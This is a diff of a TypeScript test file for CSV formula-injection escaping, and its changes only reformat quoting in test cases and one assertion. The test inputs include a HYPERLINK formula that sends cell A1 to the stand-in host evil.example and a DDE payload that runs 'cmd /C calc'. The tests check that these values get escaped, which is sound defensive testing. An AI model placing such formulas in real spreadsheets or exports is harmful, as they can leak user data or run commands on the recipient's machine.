@@ -16,14 +16,14 @@ import { contentFixture, offersOf } from './registerHelpers.ts';
 const CASES: Array<[string, string]> = [
   ['x\n=HYPERLINK("http://evil.example/?"&A1,"click")', '"x\n\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
   ['=1+1\nfoo', '"\'=1+1\nfoo"'],
-  ['foo\r\n+cmd|\' /C calc\'!A0', '"foo\r\n\'+cmd|\' /C calc\'!A0"'],
+  ["foo\r\n+cmd|' /C calc'!A0", "\"foo\r\n'+cmd|' /C calc'!A0\""],
   ['a\r-2+3', '"a\r\'-2+3"'],
   ['@SUM(1)', '"\'@SUM(1)"'],
   ['\t=1+1', '"\'\t=1+1"'],
   ['\r=1+1', '"\'\r\'=1+1"'],
   ['-', '"\'-"'],
   ["'=already quoted", '"\'\'=already quoted"'],
-  ["line\n''@x", '"line\n\'\'\'@x"'],
+  ["line\n''@x", "\"line\n'''@x\""],
   ["it's = fine", "it's = fine"],
   ['plain, with comma', '"plain, with comma"'],
   ['a; b', '"a; b"'],
@@ -70,7 +70,10 @@ describe('CSV formula escaping', { timeout: 30_000 }, () => {
 
     const table = readRegisterCsv(csv);
     const row = table.rows.find((r) => r.cells[0] === 'balkhash-test-base')!;
-    expect(parseCell('text', row.cells[table.header.indexOf('targetPurpose.en')])).toEqual({ ok: true, value: 'For a recreation base\n=HYPERLINK("http://evil.example","x")' });
+    expect(parseCell('text', row.cells[table.header.indexOf('targetPurpose.en')])).toEqual({
+      ok: true,
+      value: 'For a recreation base\n=HYPERLINK("http://evil.example","x")',
+    });
     expect(parseCell('text', row.cells[table.header.indexOf('targetPurpose.ru')])).toEqual({ ok: true, value: '=1+1\nДля базы отдыха' });
     // And the import, planning against the unchanged fixture, sees exactly those two edits.
     const report = importRegister(table, { contentDir: dir, today: TODAY, dryRun: true });
